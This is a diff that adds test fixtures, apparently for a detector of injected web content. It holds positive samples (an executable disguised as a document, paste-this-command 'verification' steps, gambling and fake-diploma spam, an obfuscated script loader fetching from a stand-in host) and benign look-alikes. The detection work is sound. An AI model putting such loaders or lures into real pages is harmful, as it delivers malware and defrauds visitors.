@@ -29,6 +29,18 @@ _LOAD = "var e=document.createElement('script');e.src=%s;document.body.appendChi
 _ROWS = ",".join(str(ord(letter) ^ 77) for letter in ADDRESS)
 _MOVED = "".join(chr(ord(letter) + 1) for letter in ADDRESS)
 TOLD_AT_FIRST = {
+    "a program called a document": put("<a href='/u/P020240513.docx.exe'>城乡居民参保登记表.docx</a>"),
+    "a screen saver called a picture": put("<a href='/u/xc.jpg.scr'>现场照片</a>"),
+    "a script called a picture": put("<script src='/upload/201809/8817.jpg'></script>"),
+    "orders to paste": put("<ol><li>按下 Win + R</li><li>按 Ctrl+V 粘贴验证码</li><li>按回车完成验证</li></ol>"),
+    "a signboard among friends": put("<a href='http://www.kqp.bad.example/'>开源棋牌</a>"),
+    "papers for sale": put(
+        "<p>专业办理各类证件:本科毕业证、学位证,先办后付款,另承接刻章、开发票业务。QQ:2800000394</p>"
+    ),
+    "an address in a piece of a row": script(
+        "var b=['scr','ipt','//s.b','ad.exam','ple/x.js'],e=document['createEle'+'ment'](b[0]+b[1]);"
+        "e['s'+'rc']=b.slice(2).join('');document.body['appendCh'+'ild'](e);"
+    ),
     "noscript": put("<noscript>澳门葡京赌场</noscript>"),
     "template": put("<template><b>百家乐开户</b></template>"),
     "textarea": put("<textarea hidden>时时彩投注平台</textarea>"),
@@ -137,6 +149,11 @@ TOLD_AGAINST_THE_BASELINE = {
     "called away": put("<p>合作联系 TG:@boss88</p>"),
 }
 HONEST = {
+    "a program that is called one": put("<a href='/u/setup.exe'>下载安全控件 setup.exe</a>"),
+    "a document of its own name": put("<a href='/u/com.exe.docx'>关于.exe文件防范的通知.docx</a>"),
+    "keys that help": put("<p>按 Ctrl+D 收藏本站，按 Ctrl + F5 刷新，Win+R 打开运行</p>"),
+    "a room of the old": put("<p>活动室：书画、休闲棋牌</p><a href='/hd/'>老年棋牌</a>"),
+    "a warning of sellers of papers": put("<p>凡称“先办后付款”、代办毕业证的均为诈骗，请拨打96110举报。</p>"),
     "a vendor's counter as it was handed on for years": script(
         'var p=(("https:"==document.location.protocol)?" https://":" http://");'
         'document.write(unescape("%3Cscript src=\'"'
